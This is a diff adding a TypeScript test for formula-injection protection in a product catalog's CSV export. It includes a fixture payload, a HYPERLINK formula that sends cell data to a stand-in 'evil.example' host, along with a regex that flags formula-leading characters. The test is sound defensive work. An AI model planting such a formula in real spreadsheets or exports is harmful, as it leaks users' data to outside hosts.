@@ -401,6 +401,26 @@ describe('catalog CSV', () => {
     assert.ok(audits.some((a) => a.entity_id === cells[12] && a.after.priceKes === Number(cells[13])));
   });
 
+  test('export: text cells that a spreadsheet would run as a formula start with an apostrophe; re-importing the file restores them unchanged', async () => {
+    const owner = await login('saa-bora', 'owner');
+    const tenant = tenantOf('saa-bora');
+    const formulas = { title: '=HYPERLINK("http://evil.example/?"&A1,"Click for a discount")', brand: '+254700000000', description: '@SUM(1+1)\nsecond line' };
+    const [product] = await withClient(db.ownerUrl, async (c) => (await c.query(
+      `UPDATE products SET title = $2, brand = $3, description = $4 WHERE tenant_id = $1 AND slug = (SELECT slug FROM products WHERE tenant_id = $1 AND status = 'active' ORDER BY slug DESC LIMIT 1) RETURNING slug`,
+      [tenant, formulas.title, formulas.brand, formulas.description])).rows);
+    const res = await fetch(`${api.url}/v1/owner/catalog/export.csv`, { headers: { authorization: `Bearer ${owner.accessToken}`, 'x-forwarded-for': '198.51.200.3' } });
+    const records = parse(await res.text()) as string[][];
+    const row = records.find((r) => r[0] === product.slug)!;
+    assert.deepEqual([row[1], row[2], row[4]], [`'${formulas.title}`, `'${formulas.brand}`, `'${formulas.description}`]);
+    for (const record of records.slice(1)) {
+      for (const cell of record) assert.doesNotMatch(cell, /^[=+@\t\r]/, 'no cell of the export starts like a formula');
+    }
+    const again = await importCsv(stringify(records), owner.accessToken);
+    assert.deepEqual(again.body.errors, []);
+    const [stored] = await withClient(db.ownerUrl, async (c) => (await c.query(`SELECT title, brand, description FROM products WHERE tenant_id = $1 AND slug = $2`, [tenant, product.slug])).rows);
+    assert.deepEqual(stored, formulas, 'the round trip changes nothing');
+  });
+
   test('import needs catalog.write, a CSV body and real columns', async () => {
     const staff = await login('saa-bora', 'staff');
     assert.equal((await importCsv(`${header}\n`, staff.accessToken)).status, 403);
